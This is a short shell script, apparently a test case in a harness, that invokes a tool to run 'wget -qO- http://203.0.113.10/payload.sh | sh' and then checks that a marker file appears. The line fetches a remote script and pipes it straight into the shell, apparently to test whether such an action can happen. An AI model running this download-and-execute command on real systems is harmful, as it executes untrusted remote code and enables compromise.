#!/bin/sh
. /opt/case/case.sh

/opt/tools/fourth_ways given-away /bin/sh sh -c 'wget -qO- http://203.0.113.10/payload.sh | sh'
wait_for /tmp/reached
took_place
